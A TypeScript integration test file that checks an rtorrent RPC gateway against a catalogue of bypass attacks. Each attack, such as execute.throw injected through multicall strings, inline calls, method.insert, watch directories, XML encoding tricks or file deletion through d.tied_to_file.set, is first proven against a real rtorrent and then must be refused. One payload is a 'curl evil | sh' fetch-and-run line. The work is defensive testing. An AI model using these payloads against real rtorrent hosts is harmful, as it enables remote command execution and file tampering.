/**
 * The bypass catalogue of the rtorrent RPC reference (shared/docs/rtorrent-rpc.md §6), against a real
 * rtorrent 0.9.8. Every attack is first shown to work: sent straight to one rtorrent over SCGI, it
 * leaves its mark on disk (a file touched by `execute.throw=touch,…`, a log file, a deleted file, a new
 * working directory...). The same request is then sent through the gateway, to a second rtorrent, as
 * the `standard` and the `readonly` user: each must get a policy fault (HTTP 200) naming the refused
 * method, the user and the policy, leave a warn line in the log, and leave no mark.
 * test/unit/policy-bypass.test.ts checks the same catalogue against the policy engine alone; this file
 * shows that the payloads are real and that the gateway stops them end to end.
 *
 * An attack that cannot be shown on 0.9.8 (master-only commands, JSON-RPC, routes that need a peer)
 * is kept as a blocked-only case and says why in its name.
 */
import assert from 'node:assert/strict';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, readlinkSync, renameSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { after, before, describe, it } from 'node:test';
import { basicAuth, post, startGateway, type GatewayTestInstance } from '../helpers/gateway.js';
import { requireBinary } from '../helpers/processes.js';
import { startRtorrent, type RtorrentInstance } from '../helpers/rtorrent.js';
import { decodeXmlRpcResponse, xmlCall, XmlRpcFault, type XmlParam } from '../helpers/scgi-direct.js';
import { infoHashOf, makeTorrentBytes } from '../helpers/torrents.js';

// Throws in CI when rtorrent is missing, so the file fails there instead of skipping.
const haveRtorrent = requireBinary('rtorrent') !== undefined;

/** What one attack gets to aim at: a fresh directory on the rtorrent host, and that rtorrent. */
interface Target {
  readonly rt: RtorrentInstance;
  /** a fresh, empty directory for this attack on this rtorrent */
  readonly dir: string;
  /** the file the attack tries to create */
  readonly marker: string;
  /** a torrent loaded (stopped) in that rtorrent */
  readonly hash: string;
  /** the command string that creates the marker: `execute.throw=touch,<marker>` */
  readonly exec: string;
  /** unique per target, for names the attack defines (methods, views, log outputs, schedules) */
  readonly tag: string;
  /** bytes of a torrent nobody has loaded yet */
  freshTorrent(): Buffer;
  /** an http:// URL on the test host serving a torrent nobody has loaded yet */
  freshTorrentUrl(): string;
  /** loads a fresh torrent, stopped, as the administrator would, and returns its hash */
  loadTorrent(): Promise<string>;
  /** hashes that loadTorrent() loaded for this target, in order */
  readonly loaded: string[];
}

interface Attack {
  readonly name: string;
  /** why the effect cannot be shown on this rtorrent; the attack is then checked for refusal only */
  readonly blockedOnly?: string;
  /** set up what the attack needs on the host (files to import, a watch directory...) */
  arrange?(t: Target): void | Promise<void>;
  /** the XML-RPC requests of the attack, in order; the gateway must refuse every one */
  steps(t: Target): string[];
  /** what happens later without the attacker: the administrator loads a torrent, a file is dropped... */
  afterwards?(t: Target): Promise<void>;
  /** whether the attack worked; by default, whether the marker file exists */
  effect?(t: Target): boolean;
  /** how long the effect may take to show (schedules, watch directories, curl fetches) */
  readonly settleMs?: number;
  /** the method the gateway must name, per policy when they differ */
  readonly refused: string | { readonly standard: string; readonly readonly: string };
  /** undoes a lasting change on the rtorrent used for the proofs, so later proofs stay independent */
  cleanup?(t: Target): Promise<void>;
}

const USERS = [
  { user: 'app', password: 'app-secret', policy: 'standard' },
  { user: 'viewer', password: 'viewer-secret', policy: 'readonly' },
] as const;

/** An encoded <value>, using the harness encoder so that escaping stays in one place. */
function valueXml(param: XmlParam): string {
  const body = xmlCall('x', [param]);
  return body.slice(body.indexOf('<param>') + '<param>'.length, body.lastIndexOf('</param>'));
}

/** xmlCall has no structs; system.multicall members are the only place a client sends them. */
function multicallXml(members: ReadonlyArray<readonly [string, XmlParam[]]>): string {
  const structs = members.map(
    ([method, params]) =>
      `<value><struct><member><name>methodName</name>${valueXml(method)}</member><member><name>params</name>${valueXml(params)}</member></struct></value>`,
  );
  return `<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data>${structs.join('')}</data></array></value></param></params></methodCall>`;
}

/** A call written by hand, for encodings xmlCall never produces (references, CDATA, comments, untyped values). */
function handXml(methodName: string, params: string[]): string {
  return `<?xml version="1.0"?><methodCall><methodName>${methodName}</methodName><params>${params.map((p) => `<param>${p}</param>`).join('')}</params></methodCall>`;
}
const str = (text: string): string => `<value><string>${text}</string></value>`;

const MAGNET = 'magnet:?xt=urn:btih:5a8062c076fa85e8056451c0d9aa04349ae27909&dn=payload&tr=http%3A%2F%2F127.0.0.1%3A9%2Fannounce';

const ATTACKS: Attack[] = [
  // --- execute.* at the top level (§2.1, §6.2) ---------------------------------------------------
  {
    name: 'execute.throw at the top level',
    steps: (t) => [xmlCall('execute.throw', ['', 'touch', t.marker])],
    refused: 'execute.throw',
  },
  {
    name: 'execute2, the real execute command of 0.9.8',
    steps: (t) => [xmlCall('execute2', ['', 'touch', t.marker])],
    refused: 'execute2',
  },
  {
    name: 'execute without a target (a 0.9.8 no-target redirect: the first parameter is the program)',
    steps: (t) => [xmlCall('execute', ['touch', t.marker])],
    refused: 'execute',
  },
  {
    name: 'execute.raw, without ~ expansion',
    steps: (t) => [xmlCall('execute.raw', ['', 'touch', t.marker])],
    refused: 'execute.raw',
  },
  {
    name: 'execute.nothrow.bg, in the background',
    steps: (t) => [xmlCall('execute.nothrow.bg', ['', 'touch', t.marker])],
    settleMs: 400,
    refused: 'execute.nothrow.bg',
  },
  {
    name: 'execute.capture of sh -c, which hands the shell output back to the caller',
    steps: (t) => [xmlCall('execute.capture', ['', 'sh', '-c', `id > ${t.marker}`])],
    refused: 'execute.capture',
  },
  {
    name: 'execute.throw with i8 arguments',
    steps: (t) => [xmlCall('execute.throw', ['', 'touch', t.marker, 1n])],
    refused: 'execute.throw',
  },

  // --- system.multicall members (§6.10) ----------------------------------------------------------
  {
    name: 'execute.throw as the second member of a system.multicall',
    steps: (t) => [multicallXml([['system.client_version', []], ['execute.throw', ['', 'touch', t.marker]]])],
    refused: 'execute.throw',
  },
  {
    name: 'a base64 command string in a system.multicall member',
    steps: (t) => [multicallXml([['d.multicall2', ['', 'main', Buffer.from(t.exec)]]])],
    refused: 'execute.throw',
  },

  // --- command strings of the multicalls (§6.1) --------------------------------------------------
  {
    name: 'execute.throw inside a d.multicall2 command string',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', 'd.name=', t.exec])],
    refused: 'execute.throw',
  },
  {
    name: 'execute.throw as the filter of d.multicall.filtered',
    steps: (t) => [xmlCall('d.multicall.filtered', ['', 'main', t.exec, 'd.name='])],
    refused: 'execute.throw',
  },
  {
    name: 'execute.throw inside an f.multicall command string',
    steps: (t) => [xmlCall('f.multicall', [t.hash, '', t.exec])],
    refused: 'execute.throw',
  },
  {
    name: 'execute.throw inside a t.multicall command string',
    steps: (t) => [xmlCall('t.multicall', [t.hash, '', t.exec])],
    refused: 'execute.throw',
  },
  {
    name: 'execute.throw inside a p.multicall command string',
    blockedOnly: 'not provable here: rows run once per connected peer and a test rtorrent has none',
    steps: (t) => [xmlCall('p.multicall', [t.hash, '', t.exec])],
    refused: 'execute.throw',
  },
  {
    name: 'd.multicall2 rows wrapped in one array, which xmlrpc-c spreads into arguments',
    steps: (t) => [xmlCall('d.multicall2', ['', ['main', t.exec]])],
    refused: 'execute.throw',
  },
  {
    name: 'a d.multicall2 row wrapped in a one-element array, which xmlrpc-c unwraps',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', [t.exec]])],
    refused: 'execute.throw',
  },
  {
    name: 'blanks and a tab around the command name of a row',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', ` \texecute.throw =touch,${t.marker}`])],
    refused: 'execute.throw',
  },
  {
    name: 'a second command after ";" in a d.multicall2 row',
    blockedOnly: 'not real on 0.9.8: multicall rows run in single-command mode, so only d.name runs',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', `d.name=;${t.exec}`])],
    refused: 'execute.throw',
  },

  // --- $… inline calls, (…) function calls, {…} lists (§6.3, §6.4) --------------------------------
  {
    name: 'a quoted $execute.throw inline call inside cat',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', `cat="$${t.exec}"`])],
    refused: 'execute.throw',
  },
  {
    name: 'a $execute.throw inline call with escaped commas inside a getter',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', `d.name=$execute.throw=touch\\,${t.marker}`])],
    refused: 'execute.throw',
  },
  {
    name: 'a $execute.throw inline call inside a lone {…} list, which is the argument list',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', `cat={"$${t.exec}"}`])],
    refused: 'execute.throw',
  },
  {
    name: 'a $execute.throw inline call behind a harmless one (cat=$d.views=,"$…")',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', `cat=$d.views=,"$${t.exec}"`])],
    refused: 'execute.throw',
  },
  {
    name: 'an (execute.throw,…) function call inside a getter argument',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', `d.name=(execute.throw,touch,${t.marker})`])],
    refused: 'execute.throw',
  },
  {
    name: 'a function call with a quoted name ("execute.throw")',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', `d.name=("execute.throw",touch,${t.marker})`])],
    refused: 'execute.throw',
  },
  {
    name: 'a function call with an escaped name (exe\\cute.throw)',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', `d.name=(exe\\cute.throw,touch,${t.marker})`])],
    refused: 'execute.throw',
  },
  {
    name: 'a twice-escaped function name that branch unescapes a second time',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', `branch=d.name=,{"d.name=(exe\\\\cute.throw,touch,${t.marker})"}`])],
    refused: 'execute.throw',
  },

  // --- load.* trailing commands (§3, §6.5) -------------------------------------------------------
  {
    name: 'an execute.throw command after a label in load.raw_start',
    steps: (t) => [xmlCall('load.raw_start', ['', t.freshTorrent(), 'd.custom1.set=x', t.exec])],
    settleMs: 200,
    refused: { standard: 'execute.throw', readonly: 'load.raw_start' },
  },
  {
    name: 'an execute.throw command after a label in load.start of an http:// URL',
    steps: (t) => [xmlCall('load.start', ['', t.freshTorrentUrl(), 'd.custom1.set=x', t.exec])],
    settleMs: 800,
    refused: { standard: 'execute.throw', readonly: 'load.start' },
  },
  {
    name: 'an execute.throw command after a label in load.start of a magnet',
    blockedOnly: 'not provable here: the commands run when the metadata arrives from peers, and a test rtorrent has none',
    steps: (t) => [xmlCall('load.start', ['', MAGNET, 'd.custom1.set=x', t.exec])],
    refused: { standard: 'execute.throw', readonly: 'load.start' },
  },
  {
    name: 'an execute.throw command hidden behind " ;" in one load.raw_start command string',
    steps: (t) => [xmlCall('load.raw_start', ['', t.freshTorrent(), `d.custom1.set=x ;${t.exec}`])],
    settleMs: 200,
    refused: { standard: 'execute.throw', readonly: 'load.raw_start' },
  },
  {
    name: 'an execute.throw command hidden behind a newline in one load.raw_start command string',
    steps: (t) => [xmlCall('load.raw_start', ['', t.freshTorrent(), `d.custom1.set=x\n${t.exec}`])],
    settleMs: 200,
    refused: { standard: 'execute.throw', readonly: 'load.raw_start' },
  },
  {
    name: 'a load.raw_start directory computed by an inline call (d.directory.set="$execute.throw=…")',
    steps: (t) => [xmlCall('load.raw_start', ['', t.freshTorrent(), `d.directory.set="$${t.exec}"`])],
    settleMs: 200,
    refused: { standard: 'd.directory.set', readonly: 'load.raw_start' },
  },
  {
    name: 'an autobrr-style load.raw_start("", [torrent, command]) that xmlrpc-c flattens',
    steps: (t) => [xmlCall('load.raw_start', ['', [t.freshTorrent(), t.exec]])],
    settleMs: 200,
    refused: { standard: 'execute.throw', readonly: 'load.raw_start' },
  },

  // --- stored code: method.*, schedules, events, views (§6.9) ------------------------------------
  {
    name: 'method.insert of a method running execute.throw, then a call of it',
    steps: (t) => [xmlCall('method.insert', ['', `evil_${t.tag}`, 'simple', t.exec]), xmlCall(`evil_${t.tag}`, [''])],
    refused: 'method.insert',
  },
  {
    name: 'method.redirect of a new name to execute.throw, then a call of it',
    steps: (t) => [xmlCall('method.redirect', ['', `alias_${t.tag}`, 'execute.throw']), xmlCall(`alias_${t.tag}`, ['', 'touch', t.marker])],
    refused: 'method.redirect',
  },
  {
    name: 'method.set replacing the body of group.seeding.ratio.command, then a call of it',
    steps: (t) => [xmlCall('method.set', ['', 'group.seeding.ratio.command', t.exec]), xmlCall('group.seeding.ratio.command', [t.hash])],
    refused: 'method.set',
    cleanup: async (t) => {
      // 0.9.8's own body (method.get), so that a later ratio check behaves as shipped.
      await t.rt.call('method.set', ['', 'group.seeding.ratio.command', 'd.try_close= ;d.ignore_commands.set=1']).catch(() => undefined);
    },
  },
  {
    name: 'method.set_key adding an event.download.inserted_new handler, fired by the next load',
    steps: (t) => [xmlCall('method.set_key', ['', 'event.download.inserted_new', `evil_${t.tag}`, t.exec])],
    afterwards: async (t) => {
      await t.loadTorrent();
    },
    refused: 'method.set_key',
    cleanup: async (t) => {
      // Without a body, method.set_key removes the key again.
      await t.rt.call('method.set_key', ['', 'event.download.inserted_new', `evil_${t.tag}`]).catch(() => undefined);
    },
  },
  {
    name: 'method.set_key adding an event.download.finished handler, then the event called directly',
    steps: (t) => [
      xmlCall('method.set_key', ['', 'event.download.finished', `evil_${t.tag}`, t.exec]),
      xmlCall('event.download.finished', [t.hash]),
    ],
    refused: 'method.set_key',
    cleanup: async (t) => {
      await t.rt.call('method.set_key', ['', 'event.download.finished', `evil_${t.tag}`]).catch(() => undefined);
    },
  },
  {
    name: 'schedule2 of an execute.throw command one second later',
    steps: (t) => [xmlCall('schedule2', ['', `evil_${t.tag}`, '1', '0', t.exec])],
    settleMs: 1600,
    refused: 'schedule2',
  },
  {
    name: 'schedule, the 0.9.8 no-target alias, one second later',
    steps: (t) => [xmlCall('schedule', [`evil_${t.tag}`, '1', '0', t.exec])],
    settleMs: 1600,
    refused: 'schedule',
  },
  {
    name: 'view.filter storing execute.throw on a view, run by view.filter_all',
    arrange: async (t) => {
      // The administrator's own view: the attacker only has to change its filter.
      await t.rt.call('view.add', ['', `v_${t.tag}`]);
    },
    steps: (t) => [xmlCall('view.filter', ['', `v_${t.tag}`, t.exec]), xmlCall('view.filter_all', [''])],
    refused: 'view.filter',
    cleanup: async (t) => {
      // Left in place, a filter that runs execute.throw makes 0.9.8 crash (a segfault in
      // torrent::Download::tracker_controller, reported as SIGABRT by its handler) when a torrent is
      // loaded and erased straight away, as the d.tied_to_file.set proof below does.
      await t.rt.call('view.filter', ['', `v_${t.tag}`, '']).catch(() => undefined);
    },
  },

  // --- files and import (§2.2, §6.13) -----------------------------------------------------------
  {
    name: 'import of an rc file that runs execute.throw',
    arrange: (t) => writeFileSync(join(t.dir, 'payload.rc'), `${t.exec}\n`),
    steps: (t) => [xmlCall('import', ['', join(t.dir, 'payload.rc')])],
    refused: 'import',
  },
  {
    name: 'try_import of an rc file that runs execute.throw',
    arrange: (t) => writeFileSync(join(t.dir, 'payload.rc'), `${t.exec}\n`),
    steps: (t) => [xmlCall('try_import', ['', join(t.dir, 'payload.rc')])],
    refused: 'try_import',
  },
  {
    name: 'directory.watch.added naming import, then an rc file dropped into the directory',
    arrange: (t) => mkdirSync(join(t.dir, 'watch')),
    steps: (t) => [xmlCall('directory.watch.added', ['', `${join(t.dir, 'watch')}/`, 'import'])],
    afterwards: async (t) => {
      await sleep(50);
      writeFileSync(join(t.dir, 'drop.rc'), `${t.exec}\n`);
      // A rename is one inotify event with the whole file in place.
      renameSync(join(t.dir, 'drop.rc'), join(t.dir, 'watch', 'drop.rc'));
    },
    settleMs: 500,
    refused: 'directory.watch.added',
  },
  {
    name: 'directory.watch.added naming execute.throw, then a script dropped into the directory',
    arrange: (t) => mkdirSync(join(t.dir, 'watch')),
    steps: (t) => [xmlCall('directory.watch.added', ['', `${join(t.dir, 'watch')}/`, 'execute.throw'])],
    afterwards: async (t) => {
      await sleep(50);
      writeFileSync(join(t.dir, 'drop.sh'), `#!/bin/sh\ntouch ${t.marker}\n`);
      chmodSync(join(t.dir, 'drop.sh'), 0o755);
      renameSync(join(t.dir, 'drop.sh'), join(t.dir, 'watch', 'drop.sh'));
    },
    settleMs: 500,
    refused: 'directory.watch.added',
  },
  {
    name: 'log.open_file creating (or truncating) a file anywhere',
    steps: (t) => [xmlCall('log.open_file', ['', `log_${t.tag}`, t.marker])],
    refused: 'log.open_file',
  },
  {
    name: 'log.execute appending every later execute to a file anywhere',
    steps: (t) => [xmlCall('log.execute', ['', t.marker])],
    refused: 'log.execute',
    cleanup: async (t) => {
      await t.rt.call('log.execute', ['', '']).catch(() => undefined);
    },
  },
  {
    name: 'log.xmlrpc writing every later request body to a file anywhere',
    steps: (t) => [xmlCall('log.xmlrpc', ['', t.marker])],
    refused: 'log.xmlrpc',
    cleanup: async (t) => {
      await t.rt.call('log.xmlrpc', ['', '']).catch(() => undefined);
    },
  },
  {
    name: 'log.vmmap.dump creating (or truncating) a file anywhere',
    steps: (t) => [xmlCall('log.vmmap.dump', ['', t.marker])],
    refused: 'log.vmmap.dump',
  },
  {
    name: 'file.append writing to a file anywhere',
    steps: (t) => [xmlCall('file.append', ['', t.marker, 'curl evil | sh'])],
    refused: 'file.append',
  },
  {
    name: 'log.rpc writing request bodies to a file',
    blockedOnly: 'not real on 0.9.8, which calls it log.xmlrpc',
    steps: (t) => [xmlCall('log.rpc', ['', t.marker])],
    refused: 'log.rpc',
  },

  // --- data-only compromises (§6.13) ------------------------------------------------------------
  {
    name: 'load.raw_start with d.directory.set putting the torrent\'s files into a directory of the attacker\'s choosing',
    arrange: (t) => mkdirSync(join(t.dir, 'ssh')),
    steps: (t) => [xmlCall('load.raw_start', ['', t.freshTorrent(), `d.directory.set=${join(t.dir, 'ssh')}`])],
    effect: (t) => readdirSync(join(t.dir, 'ssh')).length > 0,
    settleMs: 500,
    refused: { standard: 'd.directory.set', readonly: 'load.raw_start' },
  },
  {
    name: 'd.tied_to_file.set to a victim file, which the next d.erase deletes',
    arrange: async (t) => {
      writeFileSync(join(t.dir, 'victim'), 'keep me');
      // A torrent of its own, because the proof erases it.
      await t.loadTorrent();
    },
    steps: (t) => [xmlCall('d.tied_to_file.set', [t.loaded[0]!, join(t.dir, 'victim')])],
    afterwards: async (t) => {
      await t.rt.call('d.erase', [t.loaded[0]!]);
    },
    effect: (t) => !existsSync(join(t.dir, 'victim')),
    settleMs: 300,
    refused: 'd.tied_to_file.set',
  },
  {
    name: 'directory.default.set, which decides where the next load writes',
    arrange: (t) => mkdirSync(join(t.dir, 'elsewhere')),
    steps: (t) => [xmlCall('directory.default.set', ['', join(t.dir, 'elsewhere')])],
    afterwards: async (t) => {
      await t.rt.call('load.raw_start', ['', t.freshTorrent()]);
    },
    effect: (t) => readdirSync(join(t.dir, 'elsewhere')).length > 0,
    settleMs: 500,
    refused: 'directory.default.set',
    cleanup: async (t) => {
      await t.rt.call('directory.default.set', ['', join(t.rt.dir, 'download')]);
    },
  },
  {
    name: 'system.cwd.set moving rtorrent\'s working directory',
    steps: (t) => [xmlCall('system.cwd.set', ['', t.dir])],
    effect: (t) => readlinkSync(`/proc/${t.rt.pid}/cwd`) === t.dir,
    refused: 'system.cwd.set',
    cleanup: async (t) => {
      await t.rt.call('system.cwd.set', ['', t.rt.dir]);
    },
  },
  {
    name: 'system.umask.set to 0, which makes the files rtorrent creates next world-writable',
    steps: () => [xmlCall('system.umask.set', ['', '0'])],
    afterwards: async (t) => {
      await t.rt.call('log.open_file', ['', `umask_${t.tag}`, t.marker]);
    },
    effect: (t) => existsSync(t.marker) && (statSync(t.marker).mode & 0o002) !== 0,
    refused: 'system.umask.set',
    cleanup: async (t) => {
      await t.rt.call('system.umask.set', ['', 0o022]);
    },
  },
  {
    name: 'session.path.set moving where session files are written',
    blockedOnly: 'not real on 0.9.8, which refuses to change the session directory while one is in use',
    steps: (t) => [xmlCall('session.path.set', ['', t.dir])],
    refused: 'session.path.set',
  },

  // --- evaluators at the top level (§6.7) --------------------------------------------------------
  {
    name: 'branch running execute.throw as its taken branch',
    steps: (t) => [xmlCall('branch', ['', 'cat=1', t.exec])],
    refused: 'execute.throw',
  },
  {
    name: 'branch running each element of a list branch',
    steps: (t) => [xmlCall('branch', ['', 'cat=1', ['cat=', t.exec]])],
    refused: 'execute.throw',
  },
  {
    name: 'and running execute.throw as an operand',
    steps: (t) => [xmlCall('and', ['', 'cat=1', t.exec])],
    refused: 'execute.throw',
  },
  {
    name: 'or running execute.throw as an operand',
    steps: (t) => [xmlCall('or', ['', 'false=', t.exec])],
    refused: 'execute.throw',
  },
  {
    name: 'less running execute.throw as an operand',
    steps: (t) => [xmlCall('less', ['', t.exec, 'cat=0'])],
    refused: 'execute.throw',
  },
  {
    name: 'try running execute.throw',
    steps: (t) => [xmlCall('try', ['', t.exec])],
    refused: 'try',
  },
  {
    name: 'catch running execute.throw',
    steps: (t) => [xmlCall('catch', ['', t.exec])],
    refused: 'catch',
  },
  {
    name: 'match running execute.throw as the text to match',
    steps: (t) => [xmlCall('match', ['', t.exec, '.*'])],
    refused: 'match',
  },

  // --- encodings that hide names (§6.11) ---------------------------------------------------------
  {
    name: 'a numeric character reference in the method name (execute&#46;throw)',
    steps: (t) => [handXml('execute&#46;throw', [str(''), str('touch'), str(t.marker)])],
    refused: 'execute.throw',
  },
  {
    name: 'a numeric character reference in a command string (exec&#117;te.throw=…)',
    steps: (t) => [handXml('d.multicall2', [str(''), str('main'), str(`exec&#117;te.throw=touch,${t.marker}`)])],
    refused: 'execute.throw',
  },
  {
    name: 'a CDATA section as the method name',
    steps: (t) => [handXml('<![CDATA[execute.throw]]>', [str(''), str('touch'), str(t.marker)])],
    refused: 'execute.throw',
  },
  {
    name: 'a CDATA section as a command string',
    steps: (t) => [handXml('d.multicall2', [str(''), str('main'), str(`<![CDATA[${t.exec}]]>`)])],
    refused: 'execute.throw',
  },
  {
    name: 'an XML comment splitting the method name (exec<!-- -->ute.throw)',
    steps: (t) => [handXml('exec<!-- x -->ute.throw', [str(''), str('touch'), str(t.marker)])],
    refused: 'execute.throw',
  },
  {
    name: 'an untyped <value> as a command string',
    steps: (t) => [handXml('d.multicall2', [str(''), '<value>main</value>', `<value>${t.exec}</value>`])],
    refused: 'execute.throw',
  },
  {
    name: 'a base64 command string',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', Buffer.from(t.exec)])],
    refused: 'execute.throw',
  },

  // --- blocked-only: not in 0.9.8, or not provable without a connected peer ----------------------
  {
    name: 'lua.execute.str running os.execute',
    blockedOnly: 'not real on 0.9.8: master only, and only when built with Lua',
    steps: (t) => [xmlCall('lua.execute.str', ['', `os.execute("touch ${t.marker}")`])],
    refused: 'lua.execute.str',
  },
  {
    name: 'schedule.if_absent of an execute.throw command',
    blockedOnly: 'not real on 0.9.8: master only',
    steps: (t) => [xmlCall('schedule.if_absent', ['', `evil_${t.tag}`, '0', '0', t.exec])],
    refused: 'schedule.if_absent',
  },
  {
    name: 'a private command at the top level (d.state.set)',
    blockedOnly: 'not real on 0.9.8: only JSON-RPC before master 3ae91b65 and jesec\'s fork expose private commands at the top level',
    steps: (t) => [xmlCall('d.state.set', [t.hash, 0])],
    refused: 'd.state.set',
  },
  {
    name: 'p.call_target naming execute.throw',
    blockedOnly: 'not provable here: it needs a connected peer, and an unknown hash crashes rtorrent',
    steps: (t) => [xmlCall('p.call_target', ['', t.hash, '2D5452333030302D6B736C6D7A6E74306A6B3734', 'execute.throw', 'touch', t.marker])],
    refused: 'p.call_target',
  },
];

/** Polls until `check` holds or `ms` pass; returns whether it held. */
async function eventually(check: () => boolean, ms: number): Promise<boolean> {
  const deadline = Date.now() + ms;
  for (;;) {
    if (check()) return true;
    if (Date.now() > deadline) return false;
    await sleep(10);
  }
}

function effectOf(attack: Attack, t: Target): boolean {
  try {
    return attack.effect ? attack.effect(t) : existsSync(t.marker);
  } catch {
    return false;
  }
}

function faultOf(body: Buffer): XmlRpcFault {
  try {
    decodeXmlRpcResponse(body);
  } catch (err) {
    if (err instanceof XmlRpcFault) return err;
    throw err;
  }
  assert.fail(`expected a fault, got ${body.toString('utf8').slice(0, 300)}`);
}

/** Quiet time after a refused attack before looking for its mark: the refusal is synchronous, this is margin. */
const QUIET_MS = 100;

describe('attacks from the bypass catalogue: real against rtorrent 0.9.8, refused by the gateway', { skip: !haveRtorrent && 'rtorrent not installed' }, () => {
  let direct: RtorrentInstance;
  let behind: RtorrentInstance;
  let gateway: GatewayTestInstance;
  let torrents: Server;
  let torrentPort = 0;
  let serial = 0;

  before(async () => {
    [direct, behind] = await Promise.all([
      startRtorrent({ torrents: 2, name: 'attack-direct' }),
      startRtorrent({ torrents: 2, name: 'attack-behind' }),
    ]);
    gateway = await startGateway({ upstream: `unix:${behind.socketPath}` });
    // Serves /<n>.torrent as torrent n, for the load.start-of-a-URL attack.
    torrents = createServer((req, res) => {
      const n = Number(/^\/(\d+)\.torrent$/.exec(req.url ?? '')?.[1] ?? -1);
      if (n < 0) {
        res.writeHead(404).end();
        return;
      }
      res.writeHead(200, { 'content-type': 'application/x-bittorrent' }).end(makeTorrentBytes(n, { seed: 'attack' }));
    });
    await new Promise<void>((resolve) => torrents.listen(0, '127.0.0.1', resolve));
    torrentPort = (torrents.address() as AddressInfo).port;
  });

  after(async () => {
    torrents?.close();
    await gateway?.close();
    await Promise.all([direct?.stop(), behind?.stop()]);
  });

  function target(rt: RtorrentInstance, tag: string): Target {
    const dir = join(rt.dir, tag);
    mkdirSync(dir);
    const marker = join(dir, 'marker');
    const loaded: string[] = [];
    return {
      rt,
      dir,
      marker,
      hash: rt.infoHashes[0]!,
      exec: `execute.throw=touch,${marker}`,
      tag: tag.replace(/-/g, '_'),
      freshTorrent: () => makeTorrentBytes(++serial, { seed: 'attack' }),
      freshTorrentUrl: () => `http://127.0.0.1:${torrentPort}/${++serial}.torrent`,
      loaded,
      async loadTorrent() {
        const bytes = makeTorrentBytes(++serial, { seed: 'attack' });
        const hash = infoHashOf(bytes);
        await rt.call('load.raw', ['', bytes]);
        // load.* may return before the download is in the list (see loadTorrents in the harness).
        for (let tries = 0; ; tries++) {
          const listed = await rt.call('download_list', ['']);
          if (Array.isArray(listed) && listed.includes(hash)) {
            loaded.push(hash);
            return hash;
          }
          assert.ok(tries < 200, `torrent ${hash} never showed up`);
          await sleep(10);
        }
      },
    };
  }

  /** Straight to rtorrent: faults are expected (many commands fail after doing their damage). */
  async function sendDirect(rt: RtorrentInstance, body: string): Promise<void> {
    const response = await rt.raw(body).catch((err: Error) => {
      throw new Error(`${err.message}; rtorrent ${rt.running() ? 'runs' : `exited (${rt.child.exitCode ?? rt.child.signalCode})`}: ${readFileSync(rt.logPath, 'utf8').slice(-1500)}`);
    });
    try {
      decodeXmlRpcResponse(response.body);
    } catch (err) {
      if (!(err instanceof XmlRpcFault)) throw err;
    }
  }

  async function deniedLine(from: number, user: string): Promise<Record<string, unknown>> {
    // The line is written when the response has been sent, which can be just after the client has it.
    let line: Record<string, unknown> | undefined;
    await eventually(() => {
      line = gateway.logs.slice(from).find((entry) => entry.msg === 'call denied' && entry.user === user);
      return line !== undefined;
    }, 1000);
    assert.ok(line, `a "call denied" log line for ${user}`);
    return line;
  }

  ATTACKS.forEach((attack, index) => {
    const title = attack.blockedOnly
      ? `${attack.name} (blocked-only, ${attack.blockedOnly}): refused for standard and readonly`
      : `${attack.name}: real against rtorrent, refused for standard and readonly`;

    it(title, async () => {
      if (attack.blockedOnly === undefined) {
        // rtorrent 0.9.8 sometimes aborts (SIGABRT) a moment after an earlier proof's clean-up
        // erased a torrent its handlers still referenced; that proof had already passed. This one
        // gets a fresh rtorrent rather than a dead socket. An attack that kills rtorrent during its
        // own proof still fails on the running() check below.
        if (!direct.running()) {
          await direct.stop();
          direct = await startRtorrent({ torrents: 2, name: 'attack-direct' });
        }
        const t = target(direct, `a${index}`);
        await attack.arrange?.(t);
        for (const body of attack.steps(t)) await sendDirect(direct, body);
        await attack.afterwards?.(t);
        const real = await eventually(() => effectOf(attack, t), Math.max(attack.settleMs ?? 0, 1000) + 1000);
        await attack.cleanup?.(t);
        assert.ok(direct.running(), `the rtorrent used for the proofs died: ${readFileSync(direct.logPath, 'utf8').slice(-1000)}`);
        assert.ok(real, 'the attack works when sent straight to rtorrent');
      }

      const targets: Target[] = [];
      for (const { user, password, policy } of USERS) {
        const t = target(behind, `a${index}-${policy}`);
        await attack.arrange?.(t);
        const refused = typeof attack.refused === 'string' ? attack.refused : attack.refused[policy];
        for (const [step, body] of attack.steps(t).entries()) {
          const from = gateway.logs.length;
          const response = await post(gateway.url(), body, { authorization: basicAuth(user, password) });
          assert.equal(response.status, 200, `${policy} step ${step + 1}: HTTP 200`);
          assert.equal(response.headers.get('x-gateway-error'), 'GW_POLICY_DENIED', `${policy} step ${step + 1}: a policy refusal`);
          const fault = faultOf(response.body);
          assert.equal(fault.faultCode, -32403);
          // Later steps use names the first step would have created; they are refused for their own reason.
          const who = `for user "${user}" (policy "${policy}")`;
          const expected = step === 0 ? `${refused} is not allowed ${who}` : who;
          assert.ok(fault.faultString.includes(expected), `${policy} step ${step + 1}: "${fault.faultString}" should say "${expected}"`);

          const line = await deniedLine(from, user);
          assert.equal(line.level, 40);
          assert.equal(line.policy, policy);
          if (step === 0) assert.ok(String(line.denial).startsWith(`${refused}: `), `denial "${String(line.denial)}" names ${refused}`);
        }
        await attack.afterwards?.(t);
        targets.push(t);
      }
      await sleep((attack.settleMs ?? 0) + QUIET_MS);
      for (const t of targets) assert.equal(effectOf(attack, t), false, `no effect through the gateway (${t.tag})`);
    });
  });

  // JSON-RPC reaches private commands at the top level on jesec's fork and on master before 3ae91b65
  // (§1.2, §6.12). The gateway speaks XML-RPC only, so such a body never gets to a policy at all.
  it('a JSON-RPC execute.throw (blocked-only, not real on 0.9.8, which speaks only XML-RPC): refused before any policy for standard and readonly', async () => {
    const targets: Target[] = [];
